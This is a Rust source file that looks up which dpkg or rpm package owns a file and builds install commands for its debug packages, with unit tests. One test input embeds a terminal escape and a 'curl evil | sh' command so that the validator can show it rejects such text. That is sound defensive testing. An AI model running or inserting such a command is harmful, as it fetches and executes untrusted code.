//! The distribution's packages: which owns a file, and what brings its debug information.

use std::collections::{BTreeMap, BTreeSet};
use std::io::Read as _;
use std::process::{Command, Stdio};

/// More than any answer about some files.
const MAX_ANSWER_BYTES: u64 = 1 << 20;

/// A package that owns a file.
#[derive(Clone, Debug, Default, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) struct Package {
    pub(crate) name: String,
    pub(crate) version: String,
    /// The one that it was built of.
    source: String,
}

/// Words for a person on how debug information of a package comes.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(crate) struct Remedy {
    /// A command that installs it.
    pub(crate) command: String,
    /// Something that has to be done before that, if anything.
    pub(crate) before: Option<String>,
}

/// The machine's distribution, by os-release(5).
#[derive(Clone, Debug, Default)]
pub(crate) struct Distribution {
    id: String,
    codename: String,
}

impl Distribution {
    /// The one of this machine.
    pub(crate) fn here() -> Self {
        Self::parse(&std::fs::read_to_string("/etc/os-release").unwrap_or_default())
    }

    fn parse(os_release: &str) -> Self {
        let value = |key: &str| {
            let mut lines = os_release.lines().filter_map(|line| line.split_once('='));
            let found = lines.find(|(name, _)| *name == key).map(|(_, value)| value);
            found.unwrap_or_default().trim_matches(['"', '\'']).to_owned()
        };
        Self { id: value("ID"), codename: value("VERSION_CODENAME") }
    }

    /// The distribution's own debuginfod server, if it has one.
    pub(crate) fn debuginfod(&self) -> Option<&'static str> {
        Some(match self.id.as_str() {
            "debian" => "https://debuginfod.debian.net",
            "ubuntu" => "https://debuginfod.ubuntu.com",
            "fedora" => "https://debuginfod.fedoraproject.org",
            "arch" => "https://debuginfod.archlinux.org",
            "opensuse-tumbleweed" | "opensuse-leap" => "https://debuginfod.opensuse.org",
            _ => return None,
        })
    }

    /// The archive that has `-dbgsym` packages, as a line of sources.list(5).
    fn debug_archive(&self) -> Option<String> {
        let Self { id, codename } = self;
        match id.as_str() {
            "debian" => {
                Some(format!("deb http://deb.debian.org/debian-debug {codename}-debug main"))
            }
            "ubuntu" => Some(format!("deb http://ddebs.ubuntu.com {codename} main")),
            _ => None,
        }
    }
}

/// The owners of files, as far as there are any: by dpkg, else by rpm.
pub(crate) fn owners(paths: &[String]) -> BTreeMap<String, Package> {
    let is_path = |path: &&String| path.starts_with('/') && !path.contains(char::is_control);
    let paths: Vec<String> = paths.iter().filter(is_path).cloned().collect();
    let by_dpkg = dpkg_owners(&paths);
    if by_dpkg.is_empty() { rpm_owners(&paths) } else { by_dpkg }
}

fn dpkg_owners(paths: &[String]) -> BTreeMap<String, Package> {
    let mut asked: BTreeMap<String, &String> = BTreeMap::new();
    for path in paths {
        asked.insert(path.clone(), path);
        // On merged systems the package may still say /lib, or the kernel /usr/lib.
        let other = match path.strip_prefix("/usr/") {
            Some(rest) => format!("/{rest}"),
            None => format!("/usr{path}"),
        };
        asked.insert(other, path);
    }
    if asked.is_empty() {
        return BTreeMap::new();
    }
    let patterns: Vec<String> = asked.keys().map(|path| escaped(path)).collect();
    let found = output("dpkg-query", &[&["--search", "--"][..], &texts(&patterns)].concat());
    let mut names: BTreeMap<String, String> = BTreeMap::new();
    for line in found.lines() {
        // `libc6:amd64, other: /lib/x86_64-linux-gnu/libc.so.6`
        let Some((packages, path)) = line.split_once(": /") else { continue };
        let (Some(path), Some(first)) =
            (asked.get(&format!("/{path}")), packages.split(", ").next())
        else {
            continue;
        };
        if !first.contains(' ') {
            names.entry((*path).clone()).or_insert_with(|| first.to_owned());
        }
    }
    let distinct: BTreeSet<&String> = names.values().collect();
    let distinct: Vec<String> = distinct.into_iter().cloned().collect();
    if distinct.is_empty() {
        return BTreeMap::new();
    }
    let format = "--showformat=${binary:Package}\t${Package}\t${Version}\t${source:Package}\n";
    let shown = output("dpkg-query", &[&["--show", format, "--"][..], &texts(&distinct)].concat());
    let packages: BTreeMap<&str, Package> = shown
        .lines()
        .filter_map(|line| match line.split('\t').collect::<Vec<_>>()[..] {
            [key, name, version, source] if [name, version, source].into_iter().all(is_plain) => {
                let [name, version, source] = [name, version, source].map(str::to_owned);
                Some((key, Package { name, version, source }))
            }
            _ => None,
        })
        .collect();
    // Of packages for one architecture only, the short name is told.
    let short = |name: &str| name.split(':').next().unwrap_or_default().to_owned();
    let known = |name: &String| {
        let found = packages.get(name.as_str()).or_else(|| packages.get(short(name).as_str()));
        found.cloned()
    };
    names.iter().filter_map(|(path, name)| Some((path.clone(), known(name)?))).collect()
}

fn rpm_owners(paths: &[String]) -> BTreeMap<String, Package> {
    let owner = |path: &String| {
        let format = "%{NAME}\t%{VERSION}-%{RELEASE}\t\n";
        let shown = output("rpm", &["--query", "--queryformat", format, "--file", "--", path]);
        match shown.lines().next()?.split('\t').collect::<Vec<_>>()[..] {
            [name, version, ""] if is_plain(name) && is_plain(version) => {
                let (name, version) = (name.to_owned(), version.to_owned());
                Some((path.clone(), Package { name, version, source: String::new() }))
            }
            _ => None,
        }
    };
    paths.iter().filter_map(owner).collect()
}

impl Package {
    /// Packages that may have its debug information, in Debian's ways of naming them.
    fn debug_packages(&self) -> Vec<String> {
        let Self { name, source, .. } = self;
        let mut names = vec![format!("{name}-dbgsym"), format!("{name}-dbg")];
        names.push(format!("{source}-dbg"));
        names
    }
}

/// Commands that bring the debug information of each package, by its name.
pub(crate) fn remedies(
    packages: &BTreeSet<&Package>,
    distribution: &Distribution,
) -> BTreeMap<String, Remedy> {
    let candidates: BTreeSet<String> =
        packages.iter().flat_map(|package| package.debug_packages()).collect();
    let candidates: Vec<String> = candidates.into_iter().collect();
    let arguments = [&["show", "--no-all-versions", "--"][..], &texts(&candidates)].concat();
    let listed = output("apt-cache", &arguments);
    let listed: BTreeSet<&str> =
        listed.lines().filter_map(|line| line.strip_prefix("Package: ")).collect();
    let remedy = |package: &Package| {
        let name = &package.name;
        let names = package.debug_packages();
        let (command, before) = match names.iter().find(|name| listed.contains(name.as_str())) {
            Some(debug) => (format!("apt install {debug}"), None),
            None => match distribution.id.as_str() {
                "fedora" | "rhel" | "centos" | "rocky" | "almalinux" => {
                    (format!("dnf debuginfo-install {name}"), None)
                }
                "opensuse-tumbleweed" | "opensuse-leap" | "sles" => {
                    (format!("zypper install {name}-debuginfo"), None)
                }
                _ => {
                    let archive = distribution.debug_archive()?;
                    (format!("apt install {name}-dbgsym"), Some(archive))
                }
            },
        };
        Some((name.clone(), Remedy { command, before }))
    };
    packages.iter().filter_map(|package| remedy(package)).collect()
}

/// Tells whether a text can be the name or version of a package: what rpm says of a path that nobody owns has the path in
/// it, which may be anything.
fn is_plain(text: &str) -> bool {
    !text.is_empty() && text.chars().all(|c| c.is_ascii_alphanumeric() || "._+-:~^".contains(c))
}

fn texts(strings: &[String]) -> Vec<&str> {
    strings.iter().map(String::as_str).collect()
}

/// A path as a pattern that only it fits: dpkg-query(1) takes shell patterns.
fn escaped(path: &str) -> String {
    path.chars().flat_map(|c| "*?[]\\".contains(c).then_some('\\').into_iter().chain([c])).collect()
}

/// Output of a command of the distribution; nothing where it is not there.
fn output(program: &str, arguments: &[&str]) -> String {
    let mut command = Command::new(program);
    command.args(arguments).env("LC_ALL", "C");
    command.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::null());
    let Ok(mut child) = command.spawn() else { return String::new() };
    let mut bytes = Vec::new();
    if let Some(stdout) = child.stdout.take() {
        let _ = stdout.take(MAX_ANSWER_BYTES).read_to_end(&mut bytes);
    }
    let _ = child.wait();
    String::from_utf8_lossy(&bytes).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_package_of_a_file_is_found_and_of_a_strange_path_none() {
        if Command::new("dpkg-query").arg("--version").output().is_err() {
            eprintln!("not run: there is no dpkg");
            return;
        }
        let paths = ["/usr/bin/dpkg-query", "/usr/bin/dpkg-q*", "/no/such/file", "[vdso]"];
        let owners = owners(&paths.map(str::to_owned));
        assert_eq!(owners.keys().collect::<Vec<_>>(), ["/usr/bin/dpkg-query"]);
        assert_eq!(owners["/usr/bin/dpkg-query"].name, "dpkg");
        let said_of_a_path = "file /tmp/x\u{1b}[31m; curl evil | sh #";
        assert!(!is_plain(said_of_a_path) && is_plain("libc6") && is_plain("5:7.0.15-1~deb12u1"));
        let merged = ["/lib/x86_64-linux-gnu/libc.so.6", "/usr/lib/x86_64-linux-gnu/libc.so.6"];
        for path in merged.into_iter().filter(|path| std::path::Path::new(path).exists()) {
            assert_eq!(super::owners(&[path.to_owned()])[path].name, "libc6");
        }
    }

    #[test]
    fn distributions_have_their_ways() {
        let debian = Distribution::parse("ID=debian\nVERSION_CODENAME=bookworm\n");
        assert_eq!(debian.debuginfod(), Some("https://debuginfod.debian.net"));
        let unknown = Package { name: "no-such-package".into(), ..Package::default() };
        let remedies = |distribution| remedies(&[&unknown].into(), distribution);
        let of_debian = remedies(&debian);
        let remedy = &of_debian["no-such-package"];
        assert_eq!(remedy.command, "apt install no-such-package-dbgsym");
        assert!(remedy.before.as_ref().unwrap().contains("bookworm-debug"));
        let fedora = Distribution::parse("ID=\"fedora\"\n");
        assert_eq!(
            remedies(&fedora)["no-such-package"].command,
            "dnf debuginfo-install no-such-package"
        );
        assert!(remedies(&Distribution::parse("ID=gentoo\n")).is_empty());
    }
}
